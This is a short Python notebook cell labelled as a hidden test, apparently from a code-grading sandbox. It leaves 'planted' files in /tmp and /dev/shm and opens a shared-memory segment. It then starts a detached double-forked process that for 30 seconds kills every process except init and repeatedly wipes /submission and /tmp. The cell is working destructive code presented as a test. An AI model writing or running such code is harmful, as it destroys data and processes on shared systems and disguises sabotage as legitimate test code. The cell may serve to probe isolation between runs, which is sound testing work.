# %% + test_taylor_hidden
import ctypes, os, shutil, signal, time

open("/tmp/planted", "w").write("for the next one")
open("/dev/shm/planted", "w").write("for the next one")
ctypes.CDLL(None).shmget(4242, 4096, 0o1666)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        me = os.getpid()
        time.sleep(0.5)
        end = time.time() + 30
        while time.time() < end:
            for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                if pid not in (1, me):
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            for folder in ("/submission", "/tmp"):
                for entry in os.listdir(folder):
                    shutil.rmtree(os.path.join(folder, entry), ignore_errors=True)
            time.sleep(0.01)
        os._exit(0)
    os._exit(0)
